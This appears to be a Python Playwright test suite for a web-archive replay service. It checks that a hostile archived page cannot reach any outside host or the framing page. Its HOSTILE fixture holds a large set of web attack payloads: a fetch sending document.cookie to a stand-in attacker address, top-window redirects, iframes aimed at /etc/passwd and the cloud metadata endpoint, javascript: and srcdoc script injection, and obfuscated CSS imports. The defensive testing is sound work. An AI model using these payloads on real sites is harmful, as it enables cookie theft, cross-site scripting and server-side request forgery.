"""A browser shows a hostile capture within the cockpit's page, and it reaches nothing but the replay."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.types import Receive, Scope, Send

from aahcrawler.replay.replay_app import FixedFolders, ReplayAccess, replay_app
from tests.browsing import patient
from tests.replay.archived import MOMENT, URL, Archived
from tests.replay.serving import serving

pytestmark = pytest.mark.slow

CSS = {"Content-Type": "text/css"}
PAGE = f"/test/{MOMENT}mp_/{URL}"
EVIL = "http://127.0.0.2:9"
HOSTILE = f"""<!DOCTYPE html><html manifest="{EVIL}/m" onload="location='{EVIL}/onload'"><head><title>Hostile</title>
<base href="{EVIL}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="preconnect" href="{EVIL}"><link rel="dns-prefetch" href="//evil.test"><link rel="preload" as="image"
href="{EVIL}/preload"><link rel="prefetch" href="{EVIL}/prefetch"><link rel="manifest" href="{EVIL}/manifest">
<link rel="stylesheet" href="{EVIL}/sheet.css"><link rel="stylesheet" href="http://a.test/dir/a.css">
<style>@import "{EVIL}/import.css"; @im\\70ort u\\72l({EVIL}/import2.css);
body {{ background: u\\72l({EVIL}/background) }} p::after {{ content: url({EVIL}/content) }}
#aah-banner {{ display: none !important; visibility: hidden !important; opacity: 0 !important }}
div {{ display: none !important }}
@font-face {{ font-family: x; src: url({EVIL}/font) }} p {{ font-family: x }}</style>
<script src="{EVIL}/script.js"></script>
<script>document.title = "ran"; fetch("{EVIL}/fetch?" + document.cookie); top.location = "{EVIL}/top"</script></head>
<body onload="document.title = 'ran'"><p id="text">Text</p>
<a id="js" href="javascript:document.title='ran'">js</a> <a id="out" href="{EVIL}/link" target="_blank"
ping="{EVIL}/ping">out</a> <a id="inside" href="http://a.test/dir/other">inside</a>
<img src="{EVIL}/image" onerror="document.title='ran'"><img srcset="{EVIL}/srcset 2x"><picture><source
srcset="{EVIL}/source"><img src="{EVIL}/picture"></picture><video src="{EVIL}/video" poster="{EVIL}/poster"
autoplay></video><audio autoplay><source src="{EVIL}/audio"></audio><object data="{EVIL}/object"></object><embed
src="{EVIL}/embed">
<iframe src="file:///etc/passwd"></iframe><iframe src="http://169.254.169.254/latest/"></iframe><iframe
src="javascript:top.document.title='ran'"></iframe><iframe srcdoc="<script>top.document.title='ran'</script><img
src={EVIL}/srcdoc>"></iframe><iframe src="data:text/html,<script>top.document.title='ran'</script>"></iframe>
<form id="form" action="{EVIL}/form" method="post"><input name="a" autofocus onfocus="document.title='ran'"><button
id="send">Send</button></form>
<svg onload="document.title='ran'"><image href="{EVIL}/svg"/><use href="{EVIL}/use#x"/><a xlink:href="{EVIL}/a"><animate
attributeName="href" values="javascript:document.title='ran'"/><text>x</text></a><foreignObject><iframe
src="{EVIL}/foreign"></iframe></foreignObject></svg><math href="javascript:document.title='ran'"><mi>x</mi></math>
<template shadowrootmode="open"><img src="{EVIL}/shadow"></template><noscript><img src="{EVIL}/noscript"></noscript>
<table background="{EVIL}/table"><tr><td style="background:url('{EVIL}/td')">x</table><input type="image"
src="{EVIL}/input"><style><!--</style><img src="{EVIL}/mutated"><p title="--></style><img src={EVIL}/mutated2>">
<noembed><img src="{EVIL}/noembed"></noembed><xmp><img src="{EVIL}/xmp"></xmp></body></html>"""


class _Cockpit:
    """A page of another host name that frames the replay and posts it a ticket."""

    def __init__(self, door: ReplayAccess, replay: str) -> None:
        self._door, self._replay = door, replay

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = Request(scope).url.path
        ticket = self._door.tickets.issue(PAGE)
        page = (
            '<title>Cockpit</title><iframe name="shown" sandbox="allow-same-origin" width="1000" height="700"></iframe>'
            f'<form method="post" action="{self._replay}/enter" target="shown">'
            f'<input type="hidden" name="ticket" value="{ticket}"></form><script>document.forms[0].submit()</script>'
        )
        response = HTMLResponse(page) if path == "/" else Response(status_code=404)
        response.set_cookie("cockpit", "secret", httponly=False)
        await response(scope, receive, send)


@contextmanager
def _both(folder: Path) -> Iterator[tuple[str, str]]:
    """Serve a cockpit and a replay of the crawl in a folder; yield their origins."""
    cockpit = ReplayAccess.new("http://127.0.0.1:1")
    app = replay_app(FixedFolders({"test": folder}), ("localhost",))
    with serving(app) as taken:
        free = taken.port
    origin = f"http://127.0.0.1:{free}"
    door = ReplayAccess(cockpit.tickets, cockpit.sessions, origin)
    with (
        serving(replay_app(FixedFolders({"test": folder}), ("localhost",), door=door)) as replay,
        serving(_Cockpit(door, f"http://localhost:{replay.port}"), free),
    ):
        yield origin, f"http://localhost:{replay.port}"


def test_a_hostile_capture_reaches_nothing_but_the_replay(chromium: Browser, tmp_path: Path) -> None:
    crawl = Archived(tmp_path)
    crawl.add(HOSTILE)
    crawl.add("<title>Other</title><p>Other", url="http://a.test/dir/other")
    crawl.add(f"@import '{EVIL}/second.css'; p {{ color: rgb(1, 2, 3) }}", url="http://a.test/dir/a.css", headers=CSS)
    crawl.close()
    with _both(tmp_path) as (cockpit, replay):
        context = patient(chromium.new_context())
        asked: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        page = context.new_page()
        page.goto(cockpit)
        frame = page.frame("shown")
        assert frame is not None
        frame.wait_for_url(f"{replay}{PAGE}")
        frame.wait_for_load_state("networkidle")

        assert frame.locator("#text").evaluate("text => getComputedStyle(text).color") == "rgb(1, 2, 3)"
        assert frame.get_by_text("Archived page", exact=True).is_visible() or frame.locator("#aah-banner").is_visible()
        assert frame.evaluate("document.title") == "Hostile"
        assert page.title() == "Cockpit"
        # The browser's own scripts see what a page's would: not even those find a cookie.
        assert frame.evaluate("document.cookie") == ""
        for name in ("#js", "#send"):
            frame.locator(name).click(force=True, no_wait_after=True)
        assert frame.evaluate("document.title") == "Hostile"
        frame.locator("#out").click(no_wait_after=True)
        frame.get_by_role("heading", name="Not captured").wait_for()
        assert frame.url == f"{replay}/test/{MOMENT}mp_/{EVIL}/link"
        assert (page.title(), len(context.pages)) == ("Cockpit", 1)

        names = {cookie["name"]: cookie for cookie in context.cookies()}
        assert names["aah-replay"]["httpOnly"]
        assert {url for url in asked if not url.startswith((cockpit, replay, "data:", "about:"))} == set()
        assert sum(url.startswith(f"{replay}/test/") for url in asked) > 10
        context.close()


def test_links_and_the_banner_lead_on_within_the_archive(chromium: Browser, tmp_path: Path) -> None:
    crawl = Archived(tmp_path)
    for year in ("2024", "2026"):
        moment = f"{year}{MOMENT[4:]}"
        crawl.add(f'<title>{year}</title><p>{year} <a id="on" href="other">on</a>', moment=moment)
    crawl.add("<title>Other</title>", url="http://a.test/dir/other")
    crawl.close()
    with serving(replay_app(FixedFolders({"test": tmp_path}), ("localhost",))) as replay:
        page = chromium.new_page(viewport={"width": 390, "height": 700})
        page.goto(f"http://localhost:{replay.port}{PAGE}")
        assert page.title() == "2026"
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        # The banner is a closed shadow root: it is reached by the keyboard alone, as its first link.
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.wait_for_url(f"**/test/2024{MOMENT[4:]}mp_/**")
        assert page.title() == "2024"
        page.locator("#on").click()
        page.wait_for_url("**/dir/other")
        assert page.title() == "Other"
        page.close()
